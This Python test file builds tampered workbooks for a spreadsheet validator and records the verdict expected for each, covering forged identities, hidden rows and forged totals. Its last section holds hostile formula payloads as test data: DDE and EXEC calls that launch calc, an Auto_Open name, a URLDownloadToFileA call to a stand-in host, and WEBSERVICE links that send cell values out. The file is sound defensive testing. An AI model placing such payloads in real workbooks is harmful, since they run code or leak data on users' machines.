"""A workbook that was rearranged, relabelled, relocked, hidden in part or taken from somebody,
or that reaches outside."""

from __future__ import annotations

import openpyxl

from tests.hostile.base import ACCEPTED, COUNT, REJECTED, RETURNED, Case, acted, figure, workbook
from tests.reader.test_appearance import SOLID
from tests.reader.test_identity import hide, no_hidden_marks, no_properties, prop, show
from tests.spreadsheet.test_external_links import EXTERNAL
from tests.workbook import tamper
from tests.workbook.dress import attach, condition, element
from tests.workbook.parts import MAIN
from tests.workbook.tamper import TABLE_2, TABLE_3, TABLE_4, TEXTS, Formula, Opened, Tamper, by_openpyxl
from xltool.forms.sheet_names import CHECKS, COVER, HIDDEN

BOOK = "xl/workbook.xml"
PARTLY, SECRET = (f"applications.{row}.natural_person" for row in ("partly_granted", "refused_state_secret"))


def does(code: str, *acts: Tamper, status: str = RETURNED) -> Case:
    return Case(acted(*acts), status, code)


def notes(code: str, *acts: Tamper) -> Case:
    """Done, and the file is taken in all the same: every figure is where it belongs."""
    return does(code, *acts, status=ACCEPTED)


def scripted(code: str, sheet: str, verb: str, at: int, status: str = RETURNED) -> Case:
    """What a script does that moves cells and leaves names, merges and formulas where they are."""

    def act(book: openpyxl.Workbook) -> None:
        getattr(book[sheet], verb)(at)

    return Case(lambda: by_openpyxl(act, workbook()), status, code)


def everywhere(field: str, value: str) -> tuple[Tamper, ...]:
    """A mark written over in each place that tells it."""
    return (
        hide(field, value),
        prop(field, value),
        *([show(field, value)] if field in {"name", "code", "year"} else []),
    )


def row(number: int, **attributes: str) -> Tamper:
    def act(opened: Opened) -> None:
        for found in opened.sheet(TABLE_3).iter(f"{{{MAIN}}}row"):
            if found.get("r") == str(number):
                found.attrib.update(attributes)

    return act


def column(attributes: str) -> Tamper:
    return lambda opened: opened.sheet(TABLE_3).find(f"{{{MAIN}}}cols").append(element(f"<col {attributes}/>"))


def state(sheet: str, how: str) -> Tamper:
    return lambda opened: opened.entry(sheet).set("state", how)


def unnamed_and_relabelled(opened: Opened) -> None:
    """The strongest deceit: labels of two rows change places, and nothing else is left to tell."""
    tamper.remove_names(opened, "")
    tamper.swap(opened, TABLE_3, "A6", "A7")


def other_sheet(opened: Opened) -> None:
    """The content of one table under the name of another."""
    first, second = opened.entry(TABLE_2), opened.entry(TABLE_4)
    first.set("name", "临时")
    second.set("name", TABLE_2)
    first.set("name", TABLE_4)


def unmerge(opened: Opened) -> None:
    merges = opened.sheet(TABLE_3).find(f"{{{MAIN}}}mergeCells")
    for merge in list(merges)[:4]:
        merges.remove(merge)


def name(text: str, formula: str) -> Tamper:
    return lambda opened: next(opened.book.iter(f"{{{MAIN}}}definedNames")).append(
        element(f'<definedName name="{text}">{formula}</definedName>')
    )


def formula_in_table(text: str) -> Tamper:
    """A formula far from every cell of the form."""

    def act(opened: Opened) -> None:
        data = opened.sheet(TABLE_3).find(f"{{{MAIN}}}sheetData")
        data.append(element(f'<row r="90"><c r="A90"><f>{text}</f><v>0</v></c></row>'))

    return act


def computed(formula: str) -> Tamper:
    """A formula in the first input, whose kept result is 5."""

    def act(opened: Opened) -> None:
        made = Formula(formula)
        made.shown = 5
        opened.put(TABLE_3, "D6", made)

    return act


def merged(area: str) -> Tamper:
    return lambda opened: (
        opened.sheet(TABLE_3).find(f"{{{MAIN}}}mergeCells").append(element(f'<mergeCell ref="{area}"/>'))
    )


def forged(address: str, shown: str) -> Tamper:
    """Another kept result of a formula, which is left as it is."""
    return lambda opened: opened.cell(TABLE_3, address).find(f"{{{MAIN}}}v").__setattr__("text", shown)


def attached(kind: str, target: str, content: bytes | str = "<a/>", external: bool = False, part: str = BOOK) -> Tamper:
    return lambda opened: attach(opened, part, kind, target, None if external else content, external)


def macro_type(opened: Opened) -> None:
    plain, allowing = b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
    opened.parts["[Content_Types].xml"] = opened.parts["[Content_Types].xml"].replace(plain, allowing)


def added(opened: openpyxl.Workbook) -> None:
    opened.create_sheet("备注")["A1"] = "另有三件"


def copied(opened: openpyxl.Workbook) -> None:
    opened.copy_worksheet(opened[TABLE_3])


CASES = {
    # labels and places
    "labels of two rows change places": does("cell.conflict", lambda o: tamper.swap(o, TABLE_3, "A6", "A7")),
    "heads of two columns change places": does("cell.conflict", lambda o: tamper.swap(o, TABLE_3, "E5", "F5")),
    "a label of another row": does("label.changed", lambda o: o.put(TABLE_3, "B8", "（二）部分公开"), status=ACCEPTED),
    "labels changed where the names are gone": does("cell.conflict", unnamed_and_relabelled),
    "figures of two rows change places": Case(
        acted(lambda o: tamper.swap(o, TABLE_3, "D9", "D10")),
        ACCEPTED,
        "total.stale",
        {PARTLY: figure(SECRET), SECRET: figure(PARTLY)},
    ),
    "all labels removed": notes("label.changed", lambda o: tamper.remove_labels(o, TABLE_3)),
    "all names removed": notes("", tamper.remove_names),
    "names and labels removed": does("cell.lost", tamper.remove_names, lambda o: tamper.remove_labels(o, TABLE_3)),
    "a name that points to another cell": does(
        "cell.conflict",
        lambda o: next(n for n in o.names() if n.get("name", "").startswith("cell__")).__setattr__(
            "text", f"'{TABLE_3}'!$F$9"
        ),
    ),
    "a row inserted": notes("layout.shifted", lambda o: tamper.move_rows(o, TABLE_3, 8, 1)),
    "a row deleted": does("cell.lost", lambda o: tamper.move_rows(o, TABLE_3, 9, -1)),
    "a column inserted": notes("layout.shifted", lambda o: tamper.move_columns(o, TABLE_3, 4, 1)),
    "a column deleted": does("cell.lost", lambda o: tamper.move_columns(o, TABLE_3, 4, -1)),
    "a row inserted by a script": scripted("cell.conflict", TABLE_3, "insert_rows", 8),
    "a row deleted by a script": scripted("cell.conflict", TABLE_3, "delete_rows", 9),
    "a column inserted by a script": scripted("cell.conflict", TABLE_3, "insert_cols", 5),
    "a column deleted by a script": scripted("cell.conflict", TABLE_3, "delete_cols", 5),
    "rows of texts moved by a script": scripted("text.conflict", TEXTS, "insert_rows", 5),
    "an input cut and pasted over another": does(
        "cell.conflict", lambda o: tamper.cut_and_paste(o, (TABLE_3, "D6"), (TABLE_3, "E9"))
    ),
    "merges undone": notes("merge.undone", unmerge),
    "a whole sheet merged": notes("merge.covering", merged("A1:Z60")),
    "two figures merged": notes("merge.covering", merged("D6:D7")),
    # sheets
    "a sheet renamed": notes("sheet.renamed", lambda o: tamper.rename(o, TABLE_3, "Sheet1")),
    "two tables under each other's name": does("cell.conflict", other_sheet),
    "a sheet removed": Case(
        lambda: by_openpyxl(lambda book: book.remove(book[TABLE_3]), workbook()), RETURNED, "sheet.removed"
    ),
    "a sheet added": Case(lambda: by_openpyxl(added, workbook()), ACCEPTED, "sheet.added"),
    "a copy of a sheet added": Case(lambda: by_openpyxl(copied, workbook()), ACCEPTED, "sheet.added"),
    "sheets in another order": notes("sheet.reordered", tamper.reorder),
    "a sheet unlocked": notes("sheet.unprotected", lambda o: tamper.unlock(o, TABLE_3)),
    "a sheet hidden": notes("sheet.hidden", state(TABLE_3, "hidden")),
    "a sheet hidden deep": notes("sheet.hidden", state(TABLE_2, "veryHidden")),
    "the hidden sheet shown": notes("", state(HIDDEN, "visible")),
    # rows and columns that nobody sees
    "a row hidden": notes("row.hidden", row(9, hidden="1")),
    "a row without height": notes("row.hidden", row(9, ht="0", customHeight="1")),
    "a row of a hair's breadth": notes("row.hidden", row(9, ht="0.75", customHeight="1")),
    "a column hidden": notes("column.hidden", column('min="6" max="6" width="9" hidden="1"')),
    "a column without width": notes("column.hidden", column('min="6" max="6" width="0" customWidth="1"')),
    "the sheet unlocked, unmerged and a row hidden": notes(
        "row.hidden", lambda o: tamper.unlock(o, TABLE_3), unmerge, row(12, hidden="true")
    ),
    "a condition that paints figures over": notes(
        "format.conditional",
        lambda o: condition(
            o, TABLE_3, "D6:J30", f'<font><color rgb="FFFFFFFF"/></font><fill>{SOLID.format("FFFFFF")}</fill>'
        ),
    ),
    # whose it is
    "the cover of another agency": does(
        "identity.conflict", show("name", "乌鲁木齐市教育局"), show("code", "650100-001")
    ),
    "the hidden marks of another agency": does("identity.conflict", hide("code", "650100-001")),
    "the properties of another agency": does("identity.conflict", prop("code", "650100-001")),
    "the agency's code blanked on the cover": notes("identity.blanked", show("code", None)),
    "the agency's code blanked in the hidden marks": notes("identity.blanked", hide("code", None)),
    "a table that another agency's name stands above": notes(
        "identity.line", lambda o: o.put(TABLE_3, "A2", "填报单位：乌鲁木齐市教育局")
    ),
    "a forged result of a total": notes("total.stale", forged("J6", "999999")),
    "another serial in the properties": does("identity.conflict", prop("serial", "0002-00000000000000000000")),
    "another scope": does("identity.conflict", hide("scope", "consolidated")),
    "last year's cover": does("identity.conflict", show("year", "2023")),
    "a year of the other edition": Case(acted(*everywhere("year", "2019")), REJECTED, "file.edition"),
    "a year in Chinese": Case(acted(*everywhere("year", "二〇二四")), REJECTED, "file.unknown_form"),
    "an unknown form": Case(acted(*everywhere("form", "ogi-2031")), REJECTED, "file.unknown_form"),
    "a form outside the folder": Case(acted(*everywhere("form", "../../etc/ogi-2021")), REJECTED, "file.unknown_form"),
    "a level that is none": Case(acted(*everywhere("level", "village")), REJECTED, "file.unknown_form"),
    "all marks removed": notes("identity.partial", no_hidden_marks, no_properties),
    "the hidden marks removed": notes("identity.partial", no_hidden_marks),
    "another version of the form": notes(
        "form.digest", hide("digest", "0123456789abcdef"), prop("digest", "0123456789abcdef")
    ),
    # what runs or reaches outside
    "macros": notes("file.macros", attached("vbaProject", "/xl/vbaProject.bin", b"\0")),
    "macros under another name": notes("file.macros", attached("vbaProject", "/xl/media/image9.bin", b"\0")),
    "a type that allows macros": notes("file.macro_kind", macro_type),
    "a macro sheet": notes("file.macros", attached("xlMacrosheet", "/xl/macrosheets/sheet1.xml")),
    "a control": notes("file.macros", attached("control", "/xl/activeX/activeX1.xml")),
    "a link to another workbook": notes(
        "file.outside", attached("externalLink", "/xl/externalLinks/a.xml", EXTERNAL.format("externalBook"))
    ),
    "a DDE link": notes(
        "file.outside", attached("externalLink", "/xl/externalLinks/a.xml", EXTERNAL.format("ddeLink"))
    ),
    "a connection": notes("file.outside", attached("connections", "/xl/connections.xml")),
    "an embedded object": notes("file.outside", attached("oleObject", "/xl/embeddings/oleObject1.bin", b"\0")),
    "a picture of the network": notes(
        "file.outside", attached("image", "http://a.example/a.png", external=True, part="xl/theme/theme1.xml")
    ),
    "a template on a share": notes(
        "file.outside", attached("attachedTemplate", "file://server/share/a.xltm", external=True)
    ),
    **{
        f"a formula of {what}": notes("file.outside", formula_in_table(formula))
        for what, formula in {
            "WEBSERVICE": "WEBSERVICE(&quot;http://a.example/&quot;&amp;D6)",
            "HYPERLINK": "HYPERLINK(&quot;http://a.example/&quot;&amp;D6,&quot;点&quot;)",
            "DDE": "cmd|'/c calc'!A1",
            "another workbook": "[1]Sheet1!A1",
            "another workbook by its path": "'C:\\a\\[b.xlsx]c'!$A$1",
            "RTD": "RTD(&quot;a&quot;,&quot;&quot;,&quot;b&quot;)",
            "EXEC": "EXEC(&quot;calc&quot;)",
            "CALL": "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;,0,&quot;"
            "http://a.example&quot;,&quot;a&quot;,0,0)",
        }.items()
    },
    **{
        f"a figure from {what}": Case(acted(*acts), RETURNED, "formula.outside", {COUNT: None})
        for what, acts in {
            "WEBSERVICE": [computed('VALUE(_xlfn.WEBSERVICE("http://a.example"))')],
            "DDE": [computed("cmd|'/c calc'!A1")],
            "EXEC": [computed('EXEC("calc")')],
            "another workbook": [computed("[1]a!A1+1")],
            "an import of Google's": [computed('IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(1)"),5)')],
            "a name that runs": [name("Zahl", "EXEC(&quot;calc&quot;)"), computed("Zahl*1")],
            "a cell that reaches outside": [
                formula_in_table("RTD(&quot;a&quot;,&quot;&quot;)"),
                computed("SUM(A80:B99)"),
            ],
            "an address that is computed": [formula_in_table("[1]a!A1"), computed('INDIRECT("A"&90)')],
        }.items()
    },
    "a formula beside one that reaches outside": Case(
        acted(formula_in_table("[1]a!A1"), computed("E6+A91")), RETURNED, "formula.in_input", {COUNT: 5}
    ),
    "a formula of WEBSERVICE in a condition": notes(
        "file.outside", lambda o: condition(o, TABLE_3, "A1", "", formula='WEBSERVICE("http://a.example")=1')
    ),
    "a name that runs": notes("file.outside", name("Auto_Open", "EXEC(&quot;calc&quot;)")),
    "a formula beside the checks": notes(
        "file.outside", lambda o: o.put(CHECKS, "A3", Formula('HYPERLINK("http://a.example/"&A1)'))
    ),
    "a formula on the cover": notes("file.outside", lambda o: o.put(COVER, "A1", Formula("[1]a!A1"))),
}
